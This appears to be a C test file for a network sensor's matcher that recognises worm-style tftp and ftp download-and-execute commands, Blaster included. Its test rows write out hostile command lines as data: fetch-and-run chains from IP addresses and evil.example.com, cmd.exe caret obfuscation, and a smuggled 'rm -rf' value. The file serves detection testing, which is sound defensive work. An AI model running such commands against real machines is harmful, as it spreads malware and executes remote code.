/*
 * The matcher, table-driven: each row is a line and the commands a user
 * would expect to be reported for it. Rows of one stream share the stream's
 * memory (an earlier GET makes a later bare name an execution).
 */
#include <stdio.h>
#include <string.h>

#include "sensor.h"

#define LONG300 \
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" \
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" \
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" \
	"aaaaaaaaaaaaaaaaaaaa"

struct exp {
	const char *action, *host, *file, *local;
};

struct row {
	int stream;		/* rows with the same number share a ws_match_ctx, in order */
	const char *line;
	size_t len;		/* 0: strlen(line) */
	struct exp e[4];	/* expected commands, action NULL ends */
};

static const struct row rows[] = {
	/* Blaster, as typed (LF stripped by the reassembler) */
	{1, "tftp -i 81.132.114.254 GET msblast.exe", 0,
	 {{"get", "81.132.114.254", "msblast.exe", ""}}},
	{1, "start msblast.exe", 0, {{"start", "", "msblast.exe", ""}}},
	{1, "msblast.exe", 0, {{"exec", "", "msblast.exe", ""}}},
	{1, "msblast", 0, {{"exec", "", "msblast", ""}}},	/* fetched earlier, no .exe */
	{1, "MSBLAST.EXE /x", 0, {{"exec", "", "MSBLAST.EXE", ""}}},	/* fetched: args allowed */
	/* CRLF, case, whitespace */
	{2, "tftp -i 62.30.7.11 GET teekids.exe\r", 0, {{"get", "62.30.7.11", "teekids.exe", ""}}},
	{2, "TFTP -I 200.40.1.9 GET MSLAUGH.EXE", 0, {{"get", "200.40.1.9", "MSLAUGH.EXE", ""}}},
	{2, "tftp\t-i   24.5.66.7\t\tGet   penis32.exe  ", 0,
	 {{"get", "24.5.66.7", "penis32.exe", ""}}},
	{2, "   penis32.exe\r", 0, {{"exec", "", "penis32.exe", ""}}},
	{2, "Tftp 1.2.3.4 gEt x.exe", 0, {{"get", "1.2.3.4", "x.exe", ""}}},	/* no -i */
	/* cmd.exe escapes */
	{3, "t^f^t^p -i 1.2.3.4 G^ET a^.exe", 0, {{"get", "1.2.3.4", "a.exe", ""}}},
	{3, "tftp -i 1.2.3.4 GET b.exe ^& b.exe", 0, {}},	/* ^& is not a separator: 5 args */
	{3, "echo x ^& start c.exe", 0, {}},
	/* chaining */
	{4, "tftp -i 10.120.57.149 GET h3110.411 package.exe & package.exe & exit", 0,
	 {{"get", "10.120.57.149", "h3110.411", "package.exe"}, {"exec", "", "package.exe", ""}}},
	{5, "tftp -i 1.2.3.4 GET a.exe&&start a.exe||a.exe", 0,
	 {{"get", "1.2.3.4", "a.exe", ""}, {"start", "", "a.exe", ""}, {"exec", "", "a.exe", ""}}},
	{5, "tftp -i 1.2.3.4 GET b.exe ; b.exe | more", 0,
	 {{"get", "1.2.3.4", "b.exe", ""}, {"exec", "", "b.exe", ""}}},
	{5, "echo \"a & tftp -i 1.2.3.4 GET q.exe\"", 0, {}},	/* separator inside quotes */
	{6, "echo open 84.178.229.215 13468 > o&echo get sysmsvc.exe >> o &ftp -n -s:o &sysmsvc.exe",
	 0, {{"exec", "", "sysmsvc.exe", ""}}},
	/* cmd /c, /k, paths, .exe on the command */
	{7, "cmd /c tftp -i 1.2.3.4 GET a.exe", 0, {{"get", "1.2.3.4", "a.exe", ""}}},
	{7, "cmd.exe /k start a.exe", 0, {{"start", "", "a.exe", ""}}},
	{7, "CMD /Q /C \"tftp -i 5.6.7.8 get c.exe & c.exe\"", 0,
	 {{"get", "5.6.7.8", "c.exe", ""}, {"exec", "", "c.exe", ""}}},
	{7, "cmd /c cmd /c tftp -i 1.2.3.4 GET d.exe", 0, {{"get", "1.2.3.4", "d.exe", ""}}},
	{7, "C:\\WINDOWS\\system32\\tftp.exe -i 9.9.9.9 GET e.exe", 0,
	 {{"get", "9.9.9.9", "e.exe", ""}}},
	{7, "c:/windows/system32/TFTP.EXE -i evil.example.com GET f.exe c:\\f.exe", 0,
	 {{"get", "evil.example.com", "f.exe", "c:\\f.exe"}}},
	{7, "c:\\f.exe", 0, {{"exec", "", "c:\\f.exe", ""}}},
	/* start forms */
	{8, "start \"\" /b x.exe", 0, {{"start", "", "x.exe", ""}}},
	{8, "start /min y.exe", 0, {{"start", "", "y.exe", ""}}},
	{8, "start \"title\" /d c:\\ z.exe arg", 0, {{"start", "", "z.exe", ""}}},
	{8, "START \"\" \"c:\\program files\\w.exe\"", 0,
	 {{"start", "", "c:\\program files\\w.exe", ""}}},
	{8, "start \"w.exe\"", 0, {}},	/* the only argument is a title */
	{8, "start", 0, {}},
	{8, "start /b", 0, {}},
	/* execution by extension alone */
	{9, "notes.com", 0, {{"exec", "", "notes.com", ""}}},
	{9, "run.bat", 0, {{"exec", "", "run.bat", ""}}},
	{9, "x.scr", 0, {{"exec", "", "x.scr", ""}}},
	{9, "x.pif", 0, {{"exec", "", "x.pif", ""}}},
	{9, "do.cmd", 0, {{"exec", "", "do.cmd", ""}}},
	{9, "unknown.exe -arg", 0, {}},	/* not fetched, has args */
	{9, "readme.txt", 0, {}},
	{9, "exit", 0, {}},
	{9, "dir", 0, {}},
	/* not tftp commands */
	{10, "mytftp -i 1.2.3.4 GET x.exe", 0, {}},
	{10, "tftpd -i 1.2.3.4 GET x.exe", 0, {}},
	{10, "echo tftp -i 1.2.3.4 GET x.exe", 0, {}},
	{10, "tftp -i 1.2.3.4 PUT x.exe", 0, {}},
	{10, "tftp -i 1.2.3.4 GET", 0, {}},
	{10, "tftp -i 1.2.3.4", 0, {}},
	{10, "tftp -i", 0, {}},
	{10, "tftp -i 1.2.3.4 GET a b c", 0, {}},
	{10, "tftp -x 1.2.3.4 GET a.exe", 0, {}},
	/* hosts */
	{11, "tftp -i 1.2.3.999 GET x.exe", 0, {}},
	{11, "tftp -i 1.2.3 GET x.exe", 0, {}},
	{11, "tftp -i -x GET x.exe", 0, {}},
	{11, "tftp -i a..b GET x.exe", 0, {}},
	{11, "tftp -i -bad.example GET x.exe", 0, {}},
	{11, "tftp -i 12345 GET x.exe", 0, {}},
	{11, "tftp -i fe80::1 GET x.exe", 0, {{"get", "fe80::1", "x.exe", ""}}},
	{11, "tftp -i host-1.example.org GET x.exe", 0, {{"get", "host-1.example.org", "x.exe", ""}}},
	/* overlong fields are no match, never cut */
	{12, "tftp -i 1.2.3.4 GET " LONG300, 0, {}},
	{12, "tftp -i " LONG300 ".com GET x.exe", 0, {}},
	{12, "start " LONG300 ".exe", 0, {}},
	/* bytes */
	{13, "", 0, {}},
	{13, "\r", 0, {}},
	{13, "tftp -i 1.2.3.4 GET x\0y.exe", 27, {}},	/* NUL inside the file name */
	{13, "\x01\x02\xff\xfe tftp", 0, {}},
	{13, "tftp -i 1.2.3.4 GET \xe5\x90\x8d.exe", 0, {{"get", "1.2.3.4", "\xe5\x90\x8d.exe", ""}}},
	{13, "tftp -i 1.2.3.4 GET a;rm -rf $(x).exe", 0, {{"get", "1.2.3.4", "a", ""}}},
	{13, "tftp -i 1.2.3.4 GET \"a b.exe\"", 0, {{"get", "1.2.3.4", "a b.exe", ""}}},
};

static int check_row(const struct row *r, struct ws_match_ctx *ctx)
{
	struct ws_match m;
	size_t len = r->len ? r->len : strlen(r->line), want = 0, got;
	int bad = 0;

	while (want < 4 && r->e[want].action)
		want++;
	got = ws_match_line(r->line, len, ctx, &m);
	if (got != want || m.ncmds != got)
		bad = 1;
	for (size_t i = 0; !bad && i < want; i++) {
		const struct ws_cmd *c = &m.cmds[i];

		bad |= strcmp(ws_action_name(c->action), r->e[i].action) != 0;
		bad |= strcmp(c->host, r->e[i].host) != 0;
		bad |= strcmp(c->file, r->e[i].file) != 0;
		bad |= strcmp(c->local, r->e[i].local) != 0;
	}
	if (bad) {
		fprintf(stderr, "FAIL stream %d: \"%.80s\": want %zu command(s), got %zu:\n", r->stream,
			r->line, want, got);
		for (size_t i = 0; i < want; i++)
			fprintf(stderr, "   want %s host=%s file=%s local=%s\n", r->e[i].action,
				r->e[i].host, r->e[i].file, r->e[i].local);
		for (size_t i = 0; i < got; i++)
			fprintf(stderr, "   got  %s host=%s file=%s local=%s\n",
				ws_action_name(m.cmds[i].action), m.cmds[i].host, m.cmds[i].file,
				m.cmds[i].local);
	}
	return bad;
}

/* More commands on a line than the matcher reports: the first ones, bounded. */
static int check_many(void)
{
	char line[4096] = "";
	struct ws_match_ctx ctx;
	struct ws_match m;

	memset(&ctx, 0, sizeof(ctx));
	for (int i = 0; i < 20; i++)
		strcat(line, "start a.exe & ");
	if (ws_match_line(line, strlen(line), &ctx, &m) != WS_MATCH_MAX_CMDS) {
		fprintf(stderr, "FAIL: 20 commands on a line must give the first %d\n",
			WS_MATCH_MAX_CMDS);
		return 1;
	}
	return 0;
}

int main(void)
{
	struct ws_match_ctx ctx;
	int stream = -1, failures = 0;
	size_t n = sizeof(rows) / sizeof(rows[0]);

	for (size_t i = 0; i < n; i++) {
		if (rows[i].stream != stream) {
			memset(&ctx, 0, sizeof(ctx));
			stream = rows[i].stream;
		}
		failures += check_row(&rows[i], &ctx);
	}
	failures += check_many();
	printf("matcher: %zu rows, %d failure(s)\n", n + 1, failures);
	return failures ? 1 : 0;
}
